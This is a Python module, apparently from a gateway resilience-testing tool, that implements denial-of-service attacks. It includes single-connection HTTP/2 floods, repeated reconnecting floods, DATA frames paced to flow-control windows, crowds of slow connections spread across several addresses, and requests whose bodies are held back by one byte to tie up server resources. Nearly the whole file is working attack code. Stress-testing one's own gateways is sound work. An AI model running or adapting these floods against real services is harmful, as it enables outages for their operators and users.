# SPDX-License-Identifier: Apache-2.0
"""How attacks run: one connection that sends as fast as it can, DATA that respects the windows, and crowds of connections."""
import collections
import itertools
import select
import time

from attack import frames
from attack.wire import CUT_EVENTS, Cut, Peer, Wire


CONNECT_SECONDS_MAX = 15  # for the connections of a crowd; a handshake of TLS costs a millisecond


class Report:
    """What one attack saw. Times are those of CLOCK_MONOTONIC, which all processes share."""

    def __init__(self):
        self.started = time.monotonic()
        self.cut = None  # when the last of its connections was cut
        self.connections = self.refused = self.cuts = 0
        self.sent = self.received = 0
        self.goaway = ""
        self.answers = collections.Counter()  # status, or "reset"
        self.note = ""

    def add_wire(self, wire):
        self.connections += 1
        self.sent += wire.sent
        self.received += wire.received
        self.goaway = self.goaway or frames.goaway_in(wire.tail)
        if wire.cut_at:
            self.cuts += 1
            self.cut = max(self.cut or 0, wire.cut_at)
        wire.close()

    def add_peer(self, peer):
        if peer.goaway is not None:
            self.goaway = frames.error_name(peer.goaway)
        self.answers.update(peer.answers.values())
        if peer.resets:
            self.answers["reset"] += len(peer.resets)

    def told(self):
        all_cut = self.connections and self.cuts == self.connections
        return {"started": self.started, "cut": self.cut if all_cut else None, "ended": time.monotonic(), "connections": self.connections,
                "refused": self.refused, "cuts": self.cuts, "sent": self.sent, "received": self.received, "goaway": self.goaway,
                "answers": {str(k): v for k, v in sorted(self.answers.items(), key=str)}, "note": self.note}


def streams(make, first=1, ready=60000, chunk=1000):
    """Yields blobs of `make(stream)` for the streams from `first` on. `ready` of them exist before the attack begins, so that it is
    not the attacker's own speed that is measured."""
    def blob(at):
        return b"".join(make(stream) for stream in range(at, at + 2 * chunk, 2))

    built = [blob(at) for at in range(first, first + 2 * ready, 2 * chunk)]
    return itertools.chain(built, (blob(at) for at in range(first + 2 * ready, frames.WINDOW_MAX - 2 * chunk, 2 * chunk)))


def repeat(piece, size=65536):
    """The same bytes without end."""
    return itertools.repeat(piece * max(1, size // len(piece)))


def pump(wire, blobs, deadline, reads=True):
    """Sends until the deadline or until nobody reads any more. A gateway that closes its half only gets one more second of it:
    what it reads then still costs."""
    blobs, pending, is_dry = iter(blobs), memoryview(b""), False
    while (now := time.monotonic()) < min(deadline, (wire.cut_at or deadline) + 1):
        if not pending and not is_dry:
            pending = memoryview(next(blobs, b""))
            is_dry = not pending
        events = wire.wait(min(0.05, deadline - now), reads and not wire.cut_at, bool(pending))
        if events & CUT_EVENTS or events & select.POLLIN and reads and not wire.cut_at:
            try:
                wire.receive()
            except Cut:
                pass
            if events & CUT_EVENTS and not reads:
                wire.cut_at = wire.cut_at or time.monotonic()
            if wire.cut_at and (events & (select.POLLHUP | select.POLLERR) or is_dry):
                return
        if pending and events & select.POLLOUT:
            pending = pending[wire.send(pending[:131072]):]
        elif wire.cut_at:
            time.sleep(0.001)


def flood(target, blobs, alpn="h2", opening=b"", reads=True, settings=(), big_window=True, receive_buffer=0):
    """One connection. HTTP/2: after the exchange of SETTINGS. `big_window`: opens the window of the connection for answers."""
    wire = Wire(target, alpn, receive_buffer=receive_buffer)
    peer = Peer(wire, settings, big_window) if alpn == "h2" else None
    report = Report()
    try:
        if peer:
            peer.open()
        report.started = time.monotonic()
        wire.send_all(opening)
        pump(wire, blobs, report.started + target.seconds, reads)
    except Cut:
        pass
    if peer:
        report.add_peer(peer)
    report.add_wire(wire)
    return report


def flood_again(target, make_blobs, **how):
    """The same with a new connection each time that it is cut, until the time has passed."""
    total, limit, seconds = None, time.monotonic() + target.seconds, target.seconds
    while time.monotonic() < limit:
        target.seconds = limit - time.monotonic()
        try:
            report = flood(target, make_blobs(), **how)
        except OSError:
            if total:
                total.refused += 1
            time.sleep(0.01)
            continue
        if total:
            for name in ("connections", "cuts", "sent", "received"):
                setattr(total, name, getattr(total, name) + getattr(report, name))
            total.cut, total.goaway = report.cut, report.goaway
        total = total or report
    target.seconds = seconds
    total = total or Report()
    total.note = f"{total.connections} connections, {total.refused} refused"
    return total


def data_flood(target, frame, cost, head, frames_per_stream=60000):
    """DATA frames within the windows: `frame(stream)` uses `cost` bytes of them. `head(stream)` opens a stream. When the window of a
    stream is used up and not opened again, the stream ends and another one follows."""
    wire = Wire(target, "h2")
    peer, report = Peer(wire), Report()
    try:
        peer.open()
        report.started = time.monotonic()
        deadline = report.started + target.seconds
        while time.monotonic() < deadline:
            stream = peer.new_stream()
            wire.send_all(head(stream))
            blob = frame(stream) * max(1, 32768 // len(frame(stream)))
            per_blob, left, dry_since = len(blob) // len(frame(stream)), frames_per_stream, None
            while left > 0 and time.monotonic() < deadline and not peer.is_answered(stream):
                count = min(per_blob, left, peer.room(stream) // cost if cost else per_blob)
                if count <= 0:
                    dry_since = dry_since or time.monotonic()
                    if time.monotonic() - dry_since > 0.2:
                        break
                    peer.step(0.02)
                    continue
                dry_since = None
                wire.send_all(blob[:count * len(frame(stream))], deadline - time.monotonic())
                peer.take_room(stream, count * cost)
                left -= count
                peer.step(0)
            if peer.room(stream) < cost and peer.window < cost:  # the window of the connection: wait, all streams share it
                peer.step(0.05)
            if not peer.is_answered(stream):
                wire.send_all(frames.data(stream, b"", end=True))
    except Cut:
        pass
    report.add_peer(peer)
    report.add_wire(wire)
    return report


class Member:
    """One connection of a crowd."""

    def __init__(self, wire, pieces):
        self.wire = wire
        self.pieces = iter(pieces)
        self.pending = b""
        self.next_at = 0
        self.is_dry = False
        self.buffer = bytearray()
        self.ended = set()  # streams that the gateway has reset or answered


def _connect(target, alpn, count, addresses, receive_buffer, report):
    for number in range(count):
        try:
            yield number, Wire(target, alpn, number % addresses, receive_buffer, connect_seconds=1)
        except OSError:
            report.refused += 1


def crowd(target, count, pieces, alpn="http/1.1", addresses=1, interval=0, reads=True, receive_buffer=0, streams_each=0):
    """`count` connections from `addresses` addresses. Each sends the pieces of `pieces(number)`: all at once, or one each `interval` seconds.
    Then it waits until it is cut or the time has passed. `streams_each`: the end of so many streams counts as a cut as well."""
    report = Report()
    members, poll = {}, select.poll()
    wanted = (select.POLLIN if reads else 0) | CUT_EVENTS

    def add(number, wire):
        members[wire.fileno()] = Member(wire, pieces(number))
        poll.register(wire.fileno(), wanted | select.POLLOUT)

    for number, wire in _connect(target, alpn, count, addresses, receive_buffer, report):
        add(number, wire)
        if time.monotonic() > report.started + CONNECT_SECONDS_MAX:
            break
    report.started = time.monotonic()
    deadline = report.started + target.seconds
    while members and (now := time.monotonic()) < deadline:
        for fd, events in poll.poll(20):
            member = members[fd]
            try:
                if events & (select.POLLIN | CUT_EVENTS):
                    received = member.wire.receive()
                    if streams_each and _count_ended(member, received) >= streams_each:
                        member.wire.cut_at = time.monotonic()
                        report.note = "streams reset"
                        raise Cut
                    if events & CUT_EVENTS and not reads:
                        member.wire.cut_at = time.monotonic()
                        raise Cut
                if events & select.POLLOUT:
                    _send_piece(member, now, interval)
            except Cut:
                poll.unregister(fd)
                report.add_wire(members.pop(fd).wire)
                continue
            poll.modify(fd, wanted | (select.POLLOUT if member.pending or not member.is_dry and not interval else 0))
        if interval:
            for fd, member in members.items():
                if now >= member.next_at and not member.is_dry:
                    poll.modify(fd, wanted | select.POLLOUT)
    for member in members.values():
        report.add_wire(member.wire)
    return report


def _count_ended(member, received):
    member.buffer += received
    for kind, flags, stream, _ in frames.split_frames(member.buffer):
        if kind == frames.RST_STREAM or kind in (frames.DATA, frames.HEADERS) and flags & frames.END_STREAM:
            member.ended.add(stream)
    return len(member.ended)


def _send_piece(member, now, interval):
    if not member.pending and (not interval or now >= member.next_at):
        member.pending = next(member.pieces, b"")
        member.is_dry = not member.pending
        member.next_at = now + interval
    if member.pending:
        member.pending = member.pending[member.wire.send(member.pending):]


def peers(target, count, settings=(), addresses=1, big_window=True, report=None):
    """Open HTTP/2 connections."""
    found = []
    for _, wire in _connect(target, "h2", count, addresses, 0, report or Report()):
        try:
            found.append(Peer(wire, settings, big_window).open())
        except Cut:
            if report:
                report.add_wire(wire)
    return found


def hold_bodies(target, connections, streams_each, body_bytes, head, addresses=1):
    """HTTP/2 requests whose bodies are sent as far as the windows permit, except for their last byte, and then held."""
    report = Report()
    held = peers(target, connections, addresses=addresses, report=report)
    report.started = time.monotonic()
    deadline = report.started + target.seconds
    left = {}  # peer -> {stream: bytes}
    chunk = bytes(frames.FRAME_BYTES)
    for peer in held:
        left[peer] = {peer.new_stream(): body_bytes - 1 for _ in range(streams_each)}
    for peer in list(left):
        try:
            peer.wire.send_all(b"".join(head(stream) for stream in left[peer]))
        except Cut:
            report.add_wire(peer.wire)
            del left[peer]
    while left and time.monotonic() < deadline:
        moved = False
        for peer in list(left):
            try:
                moved = _send_bodies(peer, left[peer], chunk, deadline) or moved
                peer.step(0)
            except Cut:
                report.add_peer(peer)
                report.add_wire(peer.wire)
                del left[peer]
        if not moved:
            time.sleep(0.005)
    for peer in left:
        report.add_peer(peer)
        report.add_wire(peer.wire)
    report.note = f"{report.sent >> 20} MiB sent"
    return report


def _send_bodies(peer, left, chunk, deadline):
    """Sends a few frames of each body. Returns whether anything was sent."""
    blob = bytearray()
    for stream in list(left):
        size = min(left[stream], peer.room(stream), len(chunk))
        if size <= 0 or peer.is_answered(stream):
            if peer.is_answered(stream) or left[stream] <= 0:
                del left[stream]
            continue
        blob += frames.data(stream, chunk[:size])
        peer.take_room(stream, size)
        left[stream] -= size
    if blob:
        peer.wire.send_all(bytes(blob), deadline - time.monotonic())
    return bool(blob)
